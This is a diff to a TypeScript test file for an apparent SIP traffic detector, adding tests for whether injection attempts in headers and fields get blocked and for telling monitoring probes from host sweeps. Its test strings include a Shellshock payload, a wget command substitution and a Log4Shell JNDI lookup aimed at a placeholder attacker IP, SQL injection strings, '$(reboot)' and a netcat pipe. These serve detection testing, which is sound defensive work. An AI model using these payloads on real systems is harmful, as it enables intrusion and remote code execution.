@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { assertBlocked, assertNobodyBlocked, judge } from '../traffic/judge.ts';
+import { assertBlocked, assertNobodyBlocked, assertOnlyBlocked, judge } from '../traffic/judge.ts';
 import { Traffic } from '../traffic/traffic.ts';
 
 const attacker = { address: '203.0.113.66', agent: null };
@@ -24,6 +24,104 @@ test('a script in a header is told at once, and blocks nobody by itself', () => 
     [attack?.detector, attack?.action, attack?.targets],
     ['protocol-anomaly', 'notice', ['script-injection']],
   );
+});
+
+/** Each is read by whoever shows, stores or logs what callers send; each stands in another header. */
+const injections: Record<string, string> = {
+  'a shell function in the User-Agent': 'User-Agent: () { :;}; /bin/bash -c "id"',
+  'a shell command in the User-Agent': 'User-Agent: $(wget http://203.0.113.66/x)',
+  'SQL in the User-Agent': "User-Agent: a' UNION SELECT null,null--",
+  'a look-up in the Contact': 'Contact: "\x24{jndi:ldap://203.0.113.66/a}" <sip:a@b>',
+  'SQL in the credentials': `Authorization: Digest username="a' or 1=1 --", realm="a", nonce="b", uri="c", response="d"`,
+};
+
+describe('one string that is to be run elsewhere is enough', () => {
+  for (const [name, header] of Object.entries(injections))
+    test(name, () => {
+      const story = new Traffic();
+      const from = '198.51.100.200';
+      story.raw(
+        0,
+        { address: from },
+        `OPTIONS sip:192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/UDP ${from};branch=z9hG4bK1\r\nFrom: <sip:a@b>;tag=1\r\nTo: <sip:b@c>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\n${header}\r\nContent-Length: 0\r\n\r\n`,
+      );
+      story.exchange(60, { address: '198.51.100.7' }, { method: 'OPTIONS', user: '' }, 200);
+      assertOnlyBlocked(judge(story), [from]);
+    });
+
+  test('also in the name of the caller, or in the number that is called', () => {
+    for (const fields of [{ user: '100', from: "a'%20or%20'1'='1" }, { user: '$(reboot)%60id%60' }]) {
+      const story = new Traffic();
+      story.exchange(0, attacker, { method: 'INVITE', ...fields }, 404);
+      assertBlocked(judge(story), attacker.address, 'protocol-anomaly');
+    }
+  });
+
+  test('where accounts work it is told', () => {
+    const story = new Traffic();
+    const office = { address: '198.51.100.7' };
+    story.register(0, office, '100', 200);
+    story.exchange(5, { ...office, agent: 'x | nc 203.0.113.66 4444' }, { method: 'OPTIONS', user: '' }, 200);
+    const judged = judge(story);
+    assertNobodyBlocked(judged);
+    assert.equal(judged.attacks.length, 1);
+  });
+
+  test('names and programs that only look so', () => {
+    const story = new Traffic();
+    const agents = [
+      'Avaya one-X {SIP} Softphone (){}',
+      "Linphone (O'Neil's phone) 5.0",
+      'MicroSIP/3.21; Windows',
+      'R&D | Sales',
+    ];
+    for (const [i, agent] of agents.entries())
+      story.register(i * 5, { address: '198.51.100.7', agent }, `10${i}`, 401, { callId: `{A${i}-BB}@x` });
+    assert.equal(judge(story).attacks.length, 0);
+  });
+});
+
+describe('a monitor watches many hosts and names a user', () => {
+  const watched = guests.slice(0, 8);
+  for (const [step, every] of [
+    [0.02, 60],
+    [1.5, 60],
+    [0.5, 300],
+  ] as const)
+    test(`one every ${step} s, a round every ${every} s, one of them is in trouble, and another does not answer`, () => {
+      const story = new Traffic();
+      for (let round = 0; round < 15; round++)
+        for (const [i, server] of watched.entries())
+          story.exchange(
+            round * every + i * step,
+            { address: '198.51.100.7', agent: 'check_sip', server },
+            { method: 'OPTIONS', user: 'monitor' },
+            i === 3 ? 503 : i === 5 ? undefined : 200,
+          );
+      assertNobodyBlocked(judge(story, { protect: guests }));
+    });
+
+  for (const [name, user, status] of [
+    ['a host knows no such user', 'monitor', 404],
+    ['it is an extension', '100', 200],
+    ['it is somebody who may be there', 'test', 200],
+  ] as const)
+    test(`it is none where ${name}: it is out at once`, () => {
+      const story = new Traffic();
+      for (const [i, server] of watched.entries())
+        story.exchange(i * 0.1, { ...attacker, server }, { method: 'OPTIONS', user }, status);
+      for (let i = 0; i < 60; i++)
+        story.exchange(i * 10, { address: '198.51.100.7' }, { method: 'OPTIONS', user: '' }, 200);
+      const { time, firstTime } = assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
+      assert.ok(time - firstTime < 1_000);
+    });
+
+  test('it is none where it does not come back', () => {
+    const story = new Traffic();
+    for (const [i, server] of watched.slice(0, 4).entries())
+      story.exchange(i * 0.1, { ...attacker, server }, { method: 'OPTIONS', user: 'monitor' });
+    assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
+  });
 });
 
 describe('hosts are scanned with OPTIONS', () => {
